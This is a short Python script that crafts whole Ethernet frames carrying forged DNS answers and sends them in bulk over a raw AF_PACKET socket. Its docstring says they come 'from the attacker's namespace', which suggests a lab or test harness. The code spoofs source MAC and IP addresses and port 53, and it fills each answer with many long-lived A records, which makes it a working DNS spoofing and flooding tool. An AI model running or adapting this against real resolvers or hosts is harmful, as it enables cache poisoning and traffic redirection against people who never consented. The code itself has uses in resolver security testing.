#!/usr/bin/env python3
"""Forged DNS answers as whole Ethernet frames (AF_PACKET), from the attacker's namespace.

usage: dns_flood.py IFACE SRC_MAC DST_MAC SRC_IP DST_IP NAME COUNT PER_ANSWER FIRST_ADDR
    COUNT answers from SRC_IP:53 to DST_IP:33333, each saying NAME has PER_ANSWER A records
    (TTL 86400): consecutive IPv4 addresses from FIRST_ADDR on.  Prints how many were sent.
"""
import ipaddress
import socket
import struct
import sys


def csum(data):
    if len(data) % 2:
        data += b'\0'
    s = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def frame(src_mac, dst_mac, src_ip, dst_ip, payload, ident):
    s, d = socket.inet_aton(src_ip), socket.inet_aton(dst_ip)
    ulen = 8 + len(payload)
    uh = struct.pack('!HHHH', 53, 33333, ulen, 0)
    pseudo = s + d + struct.pack('!BBH', 0, 17, ulen)
    uh = struct.pack('!HHHH', 53, 33333, ulen, csum(pseudo + uh + payload) or 0xffff)
    ih = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + ulen, ident, 0x4000, 64, 17, 0, s, d)
    ih = ih[:10] + struct.pack('!H', csum(ih)) + ih[12:]
    mac = lambda m: bytes(int(x, 16) for x in m.split(':'))
    return mac(dst_mac) + mac(src_mac) + b'\x08\x00' + ih + uh + payload


def answer(ident, name, addrs):
    q = b''.join(bytes([len(label)]) + label.encode() for label in name.split('.')) + b'\0'
    msg = struct.pack('!HHHHHH', ident, 0x8180, 1, len(addrs), 0, 0) + q + b'\0\1\0\1'
    for a in addrs:
        msg += b'\xc0\x0c' + struct.pack('!HHIH', 1, 1, 86400, 4) + a.packed
    return msg


def main():
    iface, smac, dmac, sip, dip, name, count, per, first = sys.argv[1:10]
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((iface, 0))
    addr = ipaddress.IPv4Address(first)
    for i in range(int(count)):
        addrs = [addr + i * int(per) + k for k in range(int(per))]
        sock.send(frame(smac, dmac, sip, dip, answer(0x1000 + i, name, addrs), 0x2000 + i))
    print(count)


main()
